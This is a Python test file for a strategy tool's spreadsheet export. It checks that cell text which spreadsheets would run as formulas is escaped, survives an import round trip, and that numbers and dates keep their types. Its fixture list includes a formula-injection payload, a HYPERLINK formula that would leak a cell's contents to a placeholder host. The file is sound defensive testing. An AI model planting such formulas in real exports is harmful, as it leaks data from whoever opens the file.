"""What goes into a workbook's cells: never a formula, text exactly as the strategy holds it
(risky starts behind an apostrophe that import removes again), numbers and dates as such."""

from __future__ import annotations

import datetime as dt
from pathlib import Path

import pytest
from openpyxl import load_workbook

from okrdesk.export.workbook import workbook_bytes
from okrdesk.models.errors import OkrdeskError
from okrdesk.models.kinds import ElementKind, LinkKind, Strength
from okrdesk.models.storage import StrategyFile
from okrdesk.models.strategy import Strategy
from okrdesk.models.table_changes import apply_plan
from okrdesk.models.table_import import plan_import, read_spreadsheet
from okrdesk.models.tables import TABLE_NAMES
from tests.test_tables_helpers import copy_of, json_of, opened, write_workbook

RISKY = ("=", "+", "-", "@", "\t", "\r")
# Text a spreadsheet would run as a formula, and text that must survive the escape exactly.
HOSTILE = [
    '=HYPERLINK("http://example.invalid/?leak="&A1,"click")',
    "+1+1",
    "-2+3",
    "@SUM(A1:A2)",
    "\t=1",
    "\r=1",
    "'already quoted",
    "''two quotes",
    "'",
    "=",
    "  spaces around  ",
    "line one\nline two\r\nline three",
    "Ünïcödé ✓ 中文 עברית",
]


def hostile_strategy(path: Path) -> Path:
    """A strategy with hostile text in every kind of text cell, ids included."""
    file = StrategyFile.create(path, "Hostile")
    try:
        s = Strategy(file)
        s.add_element(ElementKind.TRUE_NORTH, HOSTILE[0], HOSTILE[1], element_id="=tn")
        for n, text in enumerate(HOSTILE):
            s.add_element(ElementKind.STRATEGY, text, HOSTILE[-1 - n], element_id=f"-s{n}")
            s.add_element(ElementKind.TACTIC, HOSTILE[-1 - n], text, element_id=f"@t{n}")
            s.add_element(ElementKind.OUTCOME, text, "", element_id=f"+o{n}")
        s.set_correlation("@t0", "-s1", Strength.STRONG)
        s.add_relation("+o0", "+o1", LinkKind.NEEDS, link_id="=link")
        s.add_element(ElementKind.ASPIRATION, "Aspiration", element_id="a1")
        objective = s.add_objective(HOSTILE[2], objective_id="=o1", owner=HOSTILE[3],
                                    aligns_to=("-s0", "a1"), period_start="2027-01-01")
        kr = s.add_key_result(objective.id, HOSTILE[4], key_result_id="+kr", unit="-%",
                              baseline=-2.5, target=1e20)
        s.check_in(kr.id, "2027-01-04", -0.1, 0, HOSTILE[0])
        s.check_in(kr.id, "2027-01-11", 3, 10, HOSTILE[11])
    finally:
        file.close()
    return path


def test_no_cell_of_the_workbook_can_run_as_a_formula(tmp_path: Path) -> None:
    book_path = write_workbook(hostile_strategy(tmp_path / "h.okrdesk"), tmp_path / "h.xlsx")
    book = load_workbook(book_path)  # formulas stay formulas: nothing is evaluated
    checked = 0
    for name in TABLE_NAMES:
        for row in book[name].iter_rows():
            for cell in row:
                assert cell.data_type != "f", f"{name}!{cell.coordinate} is a formula"
                if isinstance(cell.value, str):
                    checked += 1
                    assert not cell.value.startswith(RISKY), f"{name}!{cell.coordinate}"
    assert checked > 100
    titles = [c.value for c in book["Strategies"]["B"]]
    assert "'=" in titles and "'+1+1" in titles and "''already quoted" in titles
    ids = [c.value for c in book["Strategies"]["A"]]
    assert "'-s0" in ids


def test_numbers_and_dates_are_cells_of_their_own_type(tmp_path: Path) -> None:
    book_path = write_workbook(hostile_strategy(tmp_path / "h.okrdesk"), tmp_path / "h.xlsx")
    book = load_workbook(book_path)
    kr = [c.value for c in book["Key results"][2]]
    assert kr[4:6] == [-2.5, 1e20]  # baseline and target: numbers a spreadsheet can sum
    check_in = [c.value for c in book["Check-ins"][2]]
    assert check_in[2] == dt.datetime(2027, 1, 4) and check_in[3:5] == [-0.1, 0]
    assert book["Check-ins"]["C2"].number_format == "yyyy-mm-dd"


def test_hostile_text_survives_the_round_trip_exactly(tmp_path: Path) -> None:
    original = hostile_strategy(tmp_path / "h.okrdesk")
    book = write_workbook(original, tmp_path / "h.xlsx")
    copy = copy_of(original, "copy")
    with opened(copy) as s:
        plan = plan_import(s, read_spreadsheet(book), prune=True)
        apply_plan(s, plan)
    assert plan.lines() == []
    assert json_of(copy) == json_of(original)


def test_text_a_workbook_cannot_hold_is_refused_with_its_cell(tmp_path: Path) -> None:
    path = tmp_path / "c.okrdesk"
    file = StrategyFile.create(path, "Control")
    try:
        s = Strategy(file)
        s.add_element(ElementKind.STRATEGY, "Bell \x07 inside", element_id="s1")
        with pytest.raises(OkrdeskError, match=r"Strategies!B2: .*U\+0007.*CSV folder"):
            workbook_bytes(s.snapshot())
        s.rename_element("s1", "x" * 40_000)
        with pytest.raises(OkrdeskError, match=r"Strategies!B2: 40,000 characters"):
            workbook_bytes(s.snapshot())
    finally:
        file.close()


def test_every_corner_is_a_matrix_with_ids_titles_marks_and_a_legend(tmp_path: Path) -> None:
    from tests.test_tables_helpers import sample_strategy

    book = load_workbook(write_workbook(sample_strategy(tmp_path), tmp_path / "s.xlsx"))
    sheet = book["Tactics × Strategies"]
    assert [c.value for c in sheet[1]][2:] == ["s1", "s2", "s3", "s4"]
    assert sheet["C2"].value == "Work in small batches"
    assert sheet["C2"].alignment.text_rotation == 90
    assert [sheet["A3"].value, sheet["B3"].value] == ["t1", "Trunk-based development pilot"]
    assert [c.value for c in sheet[3]][2:] == ["●", "△", None, None]
    assert "● strong" in sheet["A2"].value and "△ weak" in sheet["A2"].value
    assert sheet.freeze_panes == "C3"
    assert book.sheetnames[:9] == [
        "True North", "Aspirations", "Strategies", "Evidence", "Tactics",
        "Tactics × Strategies", "Tactics × Evidence", "Aspirations × Strategies",
        "Aspirations × Evidence"]
